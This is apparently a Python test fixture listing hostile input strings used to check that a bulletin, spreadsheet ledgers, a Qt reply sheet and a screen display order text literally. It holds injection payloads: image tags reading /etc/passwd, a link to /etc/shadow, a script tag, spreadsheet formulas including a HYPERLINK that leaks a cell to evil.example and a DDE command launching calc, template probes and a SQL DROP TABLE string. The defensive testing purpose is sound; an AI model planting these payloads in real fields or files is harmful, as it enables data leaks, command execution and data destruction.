"""A corpus of hostile text: what a citizen, a caller or a clipboard may put in any field.

Used by the tests of every place that shows order text: the bulletin (reportlab paragraphs),
the ledgers (server and desk, .xlsx), the desk's reply sheet (Qt rich text) and ``/screen``.
Each must come out as the same characters, with nothing interpreted: no image read from the
server's disk, no formula, no markup, no script.
"""

from __future__ import annotations

#: A file every Linux server has; an export that reads it as an image fails or leaks it.
PASSWD_IMAGE = '<img src="/etc/passwd"/>'

MARKUP = [
    PASSWD_IMAGE,
    "<img src='/etc/hostname' width='9' height='9'/>",
    '<a href="file:///etc/shadow">附件</a>',
    "<b>加粗</b><font color='red' size='40'>红字</font>",
    "</para><para>断开段落",
    "<script>alert('x')</script>",
    "<br/><br/><hr/>",
    "&amp;&lt;&#x3C;&#60;&nbsp;",
    "<![CDATA[x]]><!-- 注释 -->",
    "<unclosed",
    "a<b",
    "<greek>alpha</greek><seq/><onDraw name='x'/>",
]

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]

UNICODE = [
    "\u202e反转文字\u202c",
    "零宽\u200b空格",
    "😀🚧 表情",
    "𠀀𪚥 扩展B区",
    "{{7*7}} ${7*7} %s%n",
    "'; DROP TABLE orders; --",
]

ALL = MARKUP + FORMULAS + UNICODE


def short(text: str, limit: int = 200) -> str:
    """For fields with a length limit (titles, districts): the text, cut to fit."""
    return text[:limit]
